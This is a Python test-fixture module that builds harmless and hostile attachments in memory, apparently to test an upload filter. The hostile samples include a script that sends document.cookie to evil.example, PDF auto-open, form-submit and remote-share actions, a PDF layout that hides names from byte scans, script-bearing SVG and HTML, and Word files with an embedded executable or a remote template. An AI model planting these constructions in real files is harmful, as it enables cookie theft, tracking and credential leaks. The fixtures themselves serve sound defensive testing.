"""Files to attach, good and hostile, built in memory for each test.

Nothing is read from disk, so each sample shows exactly what it contains.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript

CHILD = "Nguyễn Văn An"
GPS_IFD = ExifTags.IFD.GPSInfo


def pdf(javascript: str | None = None) -> bytes:
    """A one-page PDF written by pypdf; with ``javascript``, a document-level script."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if javascript:
        writer.add_open_action(JavaScript(javascript))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_body(objects: list[str | bytes], out: io.BytesIO) -> list[int]:
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        body = body.encode("latin-1") if isinstance(body, str) else body
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    return offsets


def raw_pdf(catalog_extra: str = "", page_extra: str = "", extra: tuple[str, ...] = ()) -> bytes:
    """A PDF written by hand, so a name can be spelled the way an attacker would.

    Objects 1–3 are the catalog, the page tree and the page; ``extra`` are
    objects 4, 5… (annotations, actions) that the others may refer to.
    """
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {page_extra}>>",
        *extra,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = _pdf_body(objects, out)
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def updated_pdf(base: bytes, catalog: str) -> bytes:
    """``base`` with an incremental update that replaces its catalog (object 1)."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    size = int(base.split(b"/Size", 1)[1].split()[0])
    out = io.BytesIO(base)
    out.seek(0, io.SEEK_END)
    offset = out.tell()
    out.write(f"1 0 obj\n{catalog}\nendobj\n".encode("latin-1"))
    xref = out.tell()
    out.write(f"xref\n1 1\n{offset:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {size} /Root 1 0 R /Prev {previous} >>\n"
        f"startxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def object_stream_pdf(catalog_extra: str, extra: tuple[str, ...] = ()) -> bytes:
    """A PDF 1.5 whose catalog and page sit compressed in an object stream (object 1).

    Nothing but the object stream and the cross-reference stream is written in
    the open, so a name hidden in the catalog is invisible to a scan of raw bytes.
    """
    inner = [
        f"<< /Type /Catalog /Pages 3 0 R {catalog_extra}>>",
        "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>",
        *extra,
    ]
    bodies = [body.encode("latin-1") + b"\n" for body in inner]
    header, position = [], 0
    for index, body in enumerate(bodies):
        header.append(f"{index + 2} {position}")
        position += len(body)
    first = (" ".join(header) + "\n").encode()
    packed = zlib.compress(first + b"".join(bodies))
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = out.tell()
    out.write(
        f"1 0 obj\n<< /Type /ObjStm /N {len(bodies)} /First {len(first)} /Filter /FlateDecode "
        f"/Length {len(packed)} >>\nstream\n".encode()
        + packed
        + b"\nendstream\nendobj\n"
    )
    xref_number = len(bodies) + 2
    xref_offset = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 1, stream_offset, 0)]
    rows += [struct.pack(">BIH", 2, 1, index) for index in range(len(bodies))]
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
    table = b"".join(rows)
    out.write(
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] /Root 2 0 R "
        f"/Length {len(table)} >>\nstream\n".encode()
        + table
        + f"\nendstream\nendobj\nstartxref\n{xref_offset}\n%%EOF\n".encode()
    )
    return out.getvalue()


def link_pdf(action: str) -> bytes:
    """A page with one link annotation a person clicks, running ``action``."""
    return raw_pdf(
        page_extra="/Annots [4 0 R] ",
        extra=(f"<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] /A {action} >>",),
    )


def pdf_with_html_after_first_kilobyte() -> bytes:
    """A valid PDF with an unused stream of HTML after 2 KB, out of reach of a 1 KB check."""
    html = b"<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"
    return raw_pdf(
        extra=(
            "(" + "x" * 2000 + ")",
            f"<< /Length {len(html)} >>\nstream\n{html.decode()}\nendstream",
        )
    )


def jpeg_with_gps() -> bytes:
    """A 64×32 photo from a phone held upright (EXIF orientation 6), with GPS and a comment."""
    image = Image.new("RGB", (64, 32), (200, 30, 30))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[GPS_IFD] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (21.0, 1.0, 30.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (105.0, 51.0, 0.0),
    }
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=CHILD.encode("utf-8"))
    return out.getvalue()


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 200)).save(out, "JPEG")
    return out.getvalue()


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_itxt("Author", CHILD)
    out = io.BytesIO()
    Image.new("RGBA", (30, 20), (0, 128, 0, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width``×``height`` grey pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(b"\x00" * (width + 1) * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


def zip_of(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Bi\xc3\xaan b\xe1\xba\xa3n h\xe1\xbb\x8dp</w:t></w:r></w:p></w:body>"
    b"</w:document>"
)


def docx(parts: dict[str, bytes] | None = None) -> bytes:
    """A minimal Word document, with ``parts`` added or replaced."""
    base = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
    }
    return zip_of({**base, **(parts or {})})


EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"
    + b"\x00" * 50
    + b"This program cannot be run in DOS mode."
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def jpeg_with_comment(comment: bytes) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 200)).save(out, "JPEG", comment=comment)
    return out.getvalue()


def png_with_text_chunk(text: str) -> bytes:
    info = PngInfo()
    info.add_text("Comment", text)
    out = io.BytesIO()
    Image.new("RGB", (30, 20), (0, 128, 0)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


# DOCX parts an attacker adds ------------------------------------------------------------

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels(*relationships: tuple[str, str, bool]) -> bytes:
    """A relationships part: (type, target, external) for each relationship."""
    items = "".join(
        f'<Relationship Id="rId{index}" Type="{_REL_TYPE}{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for index, (kind, target, external) in enumerate(relationships, start=10)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{items}</Relationships>"
    ).encode()


def docx_with_rels(part: str, *relationships: tuple[str, str, bool], **more) -> bytes:
    """A Word document whose ``word/_rels/<part>.rels`` holds ``relationships``."""
    return docx({f"word/_rels/{part}.rels": rels(*relationships), **more})


def document_with_fields(*instructions: str) -> bytes:
    """``word/document.xml`` with each field instruction split over two runs, as Word does."""
    runs = ""
    for instruction in instructions:
        half = len(instruction) // 2
        runs += (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction[:half]}</w:instrText></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction[half:]}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p>{runs}</w:p></w:body></w:document>"
    ).encode()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<rect width="10" height="10"/><script>alert(document.domain)</script></svg>'
)
SVG_PLAIN = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<rect width="10" height="10" fill="#0a0"/></svg>'
)


SUBMIT_WIDGET = (
    "<< /Type /Annot /Subtype /Widget /FT /Btn /T (gui) /Rect [0 0 50 20] "
    "/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>"
)


def hostile_files() -> list[tuple[str, bytes, str]]:
    """One file for each way a file can act by itself, reach outside or hide a web page.

    Each as (name, content, the reason it is refused for): a case worker told only
    "refused" cannot tell the family what to send instead.
    """
    return [
        (
            "pdf_open_action_uri",
            raw_pdf("/OpenAction << /S /URI /URI (https://evil.example/track) >> "),
            "pdf_auto_uri",
        ),
        (
            "pdf_gotor_to_network_share",
            link_pdf(r"<< /S /GoToR /F (\\\\attacker\\share\\bao-cao.pdf) /D [0 /Fit] >>"),
            "pdf_remote",
        ),
        (
            "pdf_submit_form",
            raw_pdf("/AcroForm << /Fields [4 0 R] >> ", "/Annots [4 0 R] ", extra=(SUBMIT_WIDGET,)),
            "pdf_submit",
        ),
        ("pdf_html_after_first_kilobyte", pdf_with_html_after_first_kilobyte(), "web_content"),
        (
            "docx_embedded_ole_executable",
            docx_with_rels(
                "document.xml",
                ("oleObject", "embeddings/oleObject1.bin", False),
                **{"word/embeddings/oleObject1.bin": OLE + EXE},
            ),
            "docx_ole",
        ),
        (
            "docx_remote_attached_template",
            docx_with_rels(
                "settings.xml", ("attachedTemplate", "https://evil.example/mau.dotm", True)
            ),
            "docx_template",
        ),
    ]
